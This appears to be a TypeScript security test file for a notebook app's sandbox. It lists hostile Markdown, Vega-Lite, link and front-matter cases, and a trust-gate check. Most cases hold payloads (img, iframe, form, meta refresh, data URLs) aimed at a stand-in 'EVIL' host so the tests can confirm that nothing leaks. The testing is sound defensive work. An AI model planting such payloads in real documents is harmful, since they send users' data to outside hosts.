// What the page itself renders or follows: Markdown (images, forms, meta refresh, frames, links),
// Vega-Lite (URLs, loaders), notebooks and data named by link or front matter on another
// origin, and the trust gate.
import type { CaseContext, HostileCase } from "./run-case";
import { cell, notebook } from "./notebook-text";

const counter = cell("sql n_clients", "SELECT count(*) AS n FROM clients");
const rows = cell("sql rows", "SELECT id, amount FROM clients");
const markdown = (name: string, html: string, extra: Partial<HostileCase> = {}): HostileCase => ({
  name: `Markdown: ${name}`,
  notebook: notebook([counter, html]),
  weaken: "markdown",
  ...extra,
});
const clickIfThere =
  (text: string) =>
  async ({ page, linger }: CaseContext) => {
    const target = page.locator(".prose", { hasText: text }).getByText(text, { exact: true });
    if ((await target.count()) > 0)
      await target
        .first()
        .click({ timeout: 3_000 })
        .catch(() => undefined);
    await linger(1500);
  };
const chartTime = async ({ linger }: CaseContext) => linger(1500);

/** The Markdown, Vega, link and trust-gate cases. */
export const pageCases: HostileCase[] = [
  markdown(
    "images, srcset, poster, prefetch and CSS backgrounds",
    [
      "![pixel](http://EVIL/md.png)",
      "",
      '<img src="http://EVIL/raw.png"> <img srcset="http://EVIL/set.png 1x">',
      '<video poster="http://EVIL/poster.png"></video>',
      '<link rel="prefetch" href="http://EVIL/prefetch"> <div style="background:url(http://EVIL/bg.png)">bg</div>',
    ].join("\n"),
  ),
  markdown(
    "a form posting to another site",
    '<form action="http://EVIL/f" method="get"><input name="c" value="x"><button type="submit">Send it</button></form>',
    {
      // The user sends the form (a click on a Markdown cell opens its editor, which takes the form away first).
      action: async ({ page, linger }) => {
        await page.evaluate(() => document.querySelector<HTMLFormElement>(".prose form")?.requestSubmit());
        await linger(1500);
      },
    },
  ),
  markdown("a meta refresh", '<meta http-equiv="refresh" content="0;url=http://EVIL/r">\n\nText.', {
    action: chartTime,
  }),
  markdown(
    "iframes, objects and embeds",
    '<iframe src="http://EVIL/if"></iframe> <object data="http://EVIL/obj"></object> <embed src="http://EVIL/emb">',
    { action: chartTime },
  ),
  {
    name: "Markdown: an external link the user does not confirm",
    notebook: notebook([counter, "[Read more](http://EVIL/more)"]),
    action: clickIfThere("Read more"),
    weaken: "link-confirm",
  },
  {
    name: "Vega: an image mark and a lookup with data URLs",
    notebook: notebook([
      rows,
      cell(
        "chart pic data=rows",
        '{"mark":"image","encoding":{"x":{"field":"id","type":"quantitative"},"url":{"value":"http://EVIL/img.png"}}}',
      ),
      cell(
        "chart looked_up data=rows",
        '{"mark":"point",' +
          '"transform":[{"lookup":"id","from":{"data":{"url":"http://EVIL/l.csv"},"key":"a","fields":["b"]}}],' +
          '"encoding":{"x":{"field":"id","type":"quantitative"}}}',
      ),
    ]),
    // The image mark asks for its picture once drawn, which can be well after its cell is done on a busy machine.
    action: async (c) => {
      const drawn = c.page.frameLocator('[data-cell="pic"] iframe[data-role="chart"]').locator("svg").first();
      await drawn.waitFor({ timeout: 20_000 }).catch(() => undefined);
      await chartTime(c);
    },
    weaken: "vega",
  },
  // No case for `usermeta.embedOptions` (config and patch loaded from another site, actions re-enabled): the
  // sandbox's own embed (src/sandbox/embed.ts) reads no option from a spec, so no weakening of the build can
  // make one load; test/browser/output.test.ts checks that a spec's usermeta changes nothing.
  {
    name: "Vega: a ts cell returning a spec with a data URL",
    data: "none",
    notebook: notebook([
      cell(
        "ts spec",
        "return { $schema: 'https://vega.github.io/schema/vega-lite/v6.json', data: { url: 'http://EVIL/t.csv' },",
        "  mark: 'point', encoding: { x: { field: 'a', type: 'quantitative' } } };",
      ),
    ]),
    action: chartTime,
    weaken: "vega",
  },
  {
    name: "link: ?notebook= naming a notebook on another origin",
    query: "?notebook=http://EVIL/n.md",
    data: "none",
    trust: false,
    action: chartTime,
    weaken: "notebook-link",
  },
  {
    name: "link: ?notebook= naming a scheme-relative //host notebook",
    query: "?notebook=//EVIL/n.md",
    data: "none",
    trust: false,
    action: chartTime,
    weaken: "notebook-link",
  },
  {
    name: "front matter: a declared data file on another origin",
    open: "link",
    notebook: notebook([counter], ["data:", "  clients:", "    file: http://EVIL/clients.csv"]),
    data: "none",
    trust: false,
    action: chartTime,
    weaken: "notebook-link",
  },
  {
    name: "trust gate: a notebook opened from disk runs nothing before the click",
    notebook: notebook([counter, cell("ts code", "return 1;"), 'We have ${"RAN" + "_EARLY"} ${n_clients.length}.']),
    data: "after",
    trust: false,
    check: async ({ page }) => {
      await page.waitForTimeout(2000);
      const ran = await page.$$eval('[data-kind="sql"], [data-kind="ts"]', (cells) =>
        cells
          .filter((c) => c.getAttribute("data-state") !== "idle")
          .map((c) => `${c.getAttribute("data-cell")} is ${c.getAttribute("data-state")}`),
      );
      const early = await page.locator(".prose", { hasText: "RAN_EARLY" }).count();
      if (early > 0) ran.push("a Markdown ${} value was computed");
      const banner = await page.locator('[data-action="trust"]').count();
      return [...ran.map((s) => `before the user's word, ${s}`), ...(banner ? [] : ["no 'Run this notebook' button"])];
    },
    weaken: "trust-gate",
  },
];
